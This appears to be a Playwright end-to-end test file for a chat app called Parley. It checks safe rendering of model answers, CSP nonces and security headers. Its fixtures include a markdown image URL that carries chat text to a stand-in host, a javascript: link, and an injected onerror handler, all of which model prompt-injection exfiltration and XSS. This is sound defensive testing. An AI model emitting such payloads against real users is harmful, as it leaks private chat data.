import http from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "@playwright/test";
import { AnswerContent, CspMonitor } from "./pages/answer-content";
import { PerformancePage } from "./pages/performance-page";
import { Speaker } from "./pages/speaker";
import { APP_URL, FIRST_USER } from "./support/env";
import { fakeLlm, uniqueId } from "./support/fake-llm";
import { expect, screenshot, signInWithApi, test } from "./support/fixtures";

/**
 * Model output is untrusted: a document the user uploaded can steer it
 * (prompt injection) into writing an image whose URL carries chat text to
 * another host. Such an image must not load until the user asks for it, links
 * must show where they go, and every page must carry a CSP that would refuse
 * the image (and any injected script) even if rendering let one through.
 */

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="96" height="40"><rect width="96" height="40" rx="6" fill="#1d4ed8"/><text x="48" y="26" font-family="sans-serif" font-size="16" fill="#fff" text-anchor="middle">logo</text></svg>`;
const RED_DOT = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"><circle cx="8" cy="8" r="7" fill="#dc2626"/></svg>').toString("base64")}`;

interface HostRequest {
  url: string;
  referer: string | undefined;
}

/**
 * A stand-in for someone else's image host, on its own port: it answers every
 * request with an SVG and records it (path, query and Referer). Reached as
 * 127.0.0.1 it is an unknown host; as localhost it is on the e2e run's
 * MARKDOWN_IMAGE_HOSTS (e2e/support/env.ts). /frame.html frames `frame` query's URL.
 */
async function startImageHost() {
  const requests: HostRequest[] = [];
  const server = http.createServer((request, response) => {
    const url = request.url ?? "";
    requests.push({ url, referer: request.headers.referer });
    if (url.startsWith("/frame.html")) {
      const framed = new URL(url, "http://x").searchParams.get("frame") ?? "";
      response.writeHead(200, { "content-type": "text/html" });
      response.end(`<!doctype html><title>framing test</title><iframe src="${framed}" width="600" height="400"></iframe>`);
      return;
    }
    response.writeHead(200, { "content-type": "image/svg+xml", "cache-control": "no-store" });
    response.end(SVG);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    port,
    requests,
    to: (path: string) => requests.filter((request) => request.url.startsWith(path)),
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** The policy as directive name -> sources. */
function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy.split(";").map((directive) => {
      const [name, ...sources] = directive.trim().split(/\s+/);
      return [name!, sources];
    }),
  );
}

/** Asserts a page response's security headers; returns its nonce. */
function expectPageHeaders(headers: Record<string, string>, path: string): string {
  const policy = headers["content-security-policy"];
  expect(policy, `${path}: Content-Security-Policy`).toBeTruthy();
  const csp = directives(policy!);
  expect(csp.get("frame-ancestors"), path).toEqual(["'none'"]);
  const script = csp.get("script-src") ?? [];
  expect(script, path).not.toContain("'unsafe-inline'");
  expect(script, path).not.toContain("'unsafe-eval'");
  const nonce = script.find((source) => source.startsWith("'nonce-"));
  expect(nonce, `${path}: a nonce in script-src`).toBeTruthy();
  expect(csp.get("object-src"), path).toEqual(["'none'"]);
  // The run's MARKDOWN_IMAGE_HOSTS (localhost) is the only other image source.
  expect(csp.get("img-src"), path).toEqual(["'self'", "data:", "blob:", "localhost:*"]);
  expect(csp.get("connect-src"), path).toEqual(["'self'"]);
  expect(headers["x-frame-options"], path).toBe("DENY");
  expect(headers["x-content-type-options"], path).toBe("nosniff");
  expect(headers["referrer-policy"], path).toBe("strict-origin-when-cross-origin");
  expect(headers["permissions-policy"], path).toContain("microphone=(self)");
  return nonce!;
}

async function adminPage(browser: Browser) {
  const context = await browser.newContext({ baseURL: APP_URL });
  await signInWithApi(context.request, FIRST_USER);
  return { context, page: await context.newPage() };
}

test.describe("safe rendering of answers", () => {
  test("an answer's image from another host loads only when clicked; bad links are text, good ones show their host", async ({
    page,
    account: _,
    chat,
  }) => {
    const host = await startImageHost();
    try {
      const match = uniqueId("safe-");
      const leak = `http://127.0.0.1:${host.port}/leak.svg?chat=${match}-private-notes`;
      const reply = [
        `Here is the chart: ![quarterly chart](${leak})`,
        "",
        `The logo ![parley logo](http://localhost:${host.port}/logo.svg) and a dot ![red dot](${RED_DOT}).`,
        "",
        "Do not [click me](javascript:window.__pwned=1) but read [the guide](http://docs.example.test/guide).",
      ].join("\n");
      await fakeLlm.rule({ match, reply });
      await chat.gotoNew();
      await chat.ask(`${match} show me the chart`);
      const chatUrl = `${APP_URL}/chat/${await chat.chatId()}`;
      const content = new AnswerContent(chat.lastAnswer);

      // The unknown host's image is a placeholder that names the host and the image.
      const placeholder = content.imagePlaceholder(`127.0.0.1:${host.port}`);
      await expect(placeholder).toBeVisible();
      await expect(placeholder).toContainText("quarterly chart");
      await expect(placeholder).toHaveAttribute("target", "_blank");
      await expect(placeholder).toHaveAttribute("rel", /noopener/);
      await expect(placeholder).toHaveAttribute("rel", /noreferrer/);
      // The admin's allowed host (localhost) and data: images render inline and load.
      const loaded = (alt: string) =>
        content.image(alt).evaluate((image: HTMLImageElement) => (image.complete ? image.naturalWidth : 0));
      await expect.poll(() => loaded("parley logo")).toBeGreaterThan(0);
      await expect.poll(() => loaded("red dot")).toBeGreaterThan(0);
      expect(host.to("/logo.svg").length).toBeGreaterThan(0);

      // Opened again (rendered on the server, then hydrated): still nothing fetched. The logo
      // comes after the chart in the answer, so once it has been fetched again the chart would have been too.
      const logoRequests = host.to("/logo.svg").length;
      await page.goto(chatUrl);
      await expect(placeholder).toBeVisible();
      await expect.poll(() => host.to("/logo.svg").length).toBeGreaterThan(logoRequests);
      await expect.poll(() => loaded("parley logo")).toBeGreaterThan(0);
      expect(host.to("/leak.svg"), "requests to the unknown image host before any click").toEqual([]);
      await screenshot(page, "safe-rendering-answer");

      // The javascript: link is plain text: not a link, and clicking it runs nothing.
      const refused = content.text("click me");
      await expect(refused).toBeVisible();
      await expect(content.link(/click me/)).toHaveCount(0);
      expect(await refused.evaluate((element) => element.closest("a") === null)).toBe(true);
      const pagesBefore = page.context().pages().length;
      await refused.click();
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
      expect(page.context().pages()).toHaveLength(pagesBefore);
      expect(page.url()).toBe(chatUrl);

      // The ordinary link opens in a new tab, with no opener or referrer, and shows its real host.
      const guide = content.link(/the guide/);
      await expect(guide).toHaveAttribute("href", "http://docs.example.test/guide");
      await expect(guide).toHaveAttribute("target", "_blank");
      await expect(guide).toHaveAttribute("rel", /\bnoopener\b/);
      await expect(guide).toHaveAttribute("rel", /\bnoreferrer\b/);
      await expect(guide).toContainText("docs.example.test");

      // Only a click on the placeholder fetches the image: in a new tab, query string included, no referrer.
      const popupOpened = page.context().waitForEvent("page");
      await placeholder.click();
      const popup = await popupOpened;
      await popup.waitForLoadState();
      expect(popup.url()).toBe(leak);
      await expect.poll(() => host.to("/leak.svg").map((request) => request.url)).toEqual([new URL(leak).pathname + new URL(leak).search]);
      expect(host.to("/leak.svg")[0]?.referer, "the chat's URL never reaches the image host").toBeUndefined();
      await popup.close();

      await page.setViewportSize({ width: 390, height: 844 });
      await content.text("click me").scrollIntoViewIfNeeded();
      await screenshot(page, "safe-rendering-phone");
    } finally {
      await host.close();
    }
  });

  test("every page sends a nonce CSP and the other security headers; API responses and static files too", async ({
    browser,
    page,
    account: _,
    chat,
  }) => {
    const match = uniqueId("headers-");
    await fakeLlm.rule({ match, reply: "Headers are fine." });
    await chat.gotoNew();
    await chat.ask(`${match} hello`);
    const chatId = await chat.chatId();

    const nonces: string[] = [];
    for (const path of ["/", `/chat/${chatId}`, "/settings", "/knowledge"]) {
      const response = await page.goto(path);
      expect(response?.status(), path).toBe(200);
      nonces.push(expectPageHeaders(response!.headers(), path));
    }
    // Pages work with the policy: hydrated and interactive (the composer takes text).
    await chat.gotoNew();
    await chat.composer.fill("typed under a strict CSP");
    await expect(chat.sendButton).toBeEnabled();

    const admin = await adminPage(browser);
    const anonymous = await browser.newContext({ baseURL: APP_URL });
    try {
      const response = await admin.page.goto("/admin/performance");
      expect(response?.status()).toBe(200);
      nonces.push(expectPageHeaders(response!.headers(), "/admin/performance"));
      const anonymousPage = await anonymous.newPage();
      for (const path of ["/sign-in", "/sign-up", "/sign-in"]) {
        const signedOut = await anonymousPage.goto(path);
        expect(signedOut?.status(), path).toBe(200);
        nonces.push(expectPageHeaders(signedOut!.headers(), path));
      }
      // Rendered per request: the sign-in page's scripts carry this response's nonce.
      const nonce = nonces.at(-1)!.slice("'nonce-".length, -1);
      const scriptNonces = await anonymousPage.evaluate(() => [...document.scripts].map((script) => script.nonce));
      expect(scriptNonces.length).toBeGreaterThan(0);
      expect(scriptNonces).toContain(nonce);
    } finally {
      await admin.context.close();
      await anonymous.close();
    }
    expect(new Set(nonces).size, "a fresh nonce on every response").toBe(nonces.length);

    // API responses (no proxy ran: no nonce) and static files are never sniffed, framed or run.
    for (const path of ["/api/health", "/v1/models", "/api/chats"]) {
      const response = await page.request.get(path);
      const headers = response.headers();
      expect(headers["x-content-type-options"], path).toBe("nosniff");
      expect(directives(headers["content-security-policy"] ?? "").get("frame-ancestors"), path).toEqual(["'none'"]);
      expect(headers["content-security-policy"], path).not.toContain("nonce-");
      expect(headers["x-frame-options"], path).toBe("DENY");
    }
    const worklet = await page.request.get("/vad/vad.worklet.bundle.min.js");
    expect(worklet.status()).toBe(200);
    expect(worklet.headers()["x-content-type-options"]).toBe("nosniff");
    expect(worklet.headers()["content-security-policy"], "the proxy does not run on static files").toBeUndefined();
  });

  test("another site cannot frame Parley", async ({ page }) => {
    const host = await startImageHost();
    try {
      await page.goto(`http://127.0.0.1:${host.port}/frame.html?frame=${encodeURIComponent(`${APP_URL}/sign-in`)}`);
      const child = () => page.frames().find((frame) => frame !== page.mainFrame())?.url() ?? "";
      // Chromium replaces a refused frame with its error page.
      await expect.poll(child).toMatch(/^chrome-error:/);
      await screenshot(page, "safe-rendering-framed");
    } finally {
      await host.close();
    }
  });

  test("no CSP violation while using chat, speech, knowledge, settings and the admin page; injected content is refused", async ({
    browser,
    page,
    account: _,
    chat,
    knowledge,
    settings,
  }) => {
    const host = await startImageHost();
    const monitor = await CspMonitor.attach(page);
    try {
      const match = uniqueId("csp-");
      const reply = [
        "## Notes",
        "",
        "| step | what |",
        "| --- | --- |",
        "| 1 | **bold** and `code` |",
        "",
        "```ts",
        "const answer: number = 42;",
        "```",
        "",
        `A fact[^1] and a logo ![parley logo](http://localhost:${host.port}/logo.svg).`,
        "",
        "[^1]: A footnote.",
      ].join("\n");
      await fakeLlm.rule({ match, reply });
      await chat.gotoNew();
      // The voice detector's onnxruntime (a module and WebAssembly from /vad/) loads under the policy.
      await expect(page.getByRole("button", { name: "Voice input" })).toHaveAttribute("data-silero-preload", "ready", { timeout: 20_000 });
      await chat.ask(`${match} format something`);
      const content = new AnswerContent(chat.lastAnswer);
      await expect.poll(() => content.image("parley logo").evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
      await expect(chat.lastAnswer.locator("pre code .hljs-keyword").first()).toBeVisible();

      // Speech: fetched, decoded and played under the policy.
      const speaker = new Speaker(page, chat.lastAnswer);
      await speaker.listen.click();
      await speaker.expectState("playing", 10_000);
      await speaker.stop.click();
      await speaker.expectState("idle");

      await knowledge.goto();
      await knowledge.pick([{ name: "csp-notes.md", mimeType: "text/markdown", buffer: Buffer.from(`# CSP notes\n\nNotes about ${match} and policies.\n`) }]);
      await knowledge.expectStatus("csp-notes.md", "Indexed");
      await knowledge.preview("csp-notes.md");
      await knowledge.closeDialog();

      await settings.goto();
      await settings.createKey(uniqueId("csp-key-"));

      const admin = await adminPage(browser);
      try {
        const adminMonitor = await CspMonitor.attach(admin.page);
        await new PerformancePage(admin.page).goto();
        expect(adminMonitor.violations, "admin page CSP violations").toEqual([]);
        expect(adminMonitor.consoleErrors).toEqual([]);
      } finally {
        await admin.context.close();
      }

      // An address that is no page gets Parley's own 404 page, under the same policy.
      const missing = await page.goto("/no-such-page");
      expect(missing?.status()).toBe(404);
      await expect(page.getByRole("heading", { name: "Page not found" })).toBeVisible();

      expect(monitor.violations, "CSP violations while using Parley").toEqual([]);
      expect(monitor.consoleErrors, "console messages about CSP").toEqual([]);

      // Injected anyway (as an XSS would): the remote image is not requested, the inline handler does not run.
      await chat.gotoNew();
      await page.evaluate((url) => {
        const image = new Image();
        image.src = url;
        document.body.append(image);
        document.body.insertAdjacentHTML("beforeend", '<img alt="" src="data:image/png;base64,AAAA" onerror="window.__injected = 1">');
      }, `http://127.0.0.1:${host.port}/probe.svg?chat=${match}`);
      await expect.poll(() => monitor.violations.map((violation) => violation.directive).sort()).toEqual(["img-src", "script-src-attr"]);
      expect(await page.evaluate(() => (window as unknown as { __injected?: number }).__injected)).toBeUndefined();
      expect(host.to("/probe.svg")).toEqual([]);
    } finally {
      await host.close();
    }
  });
});
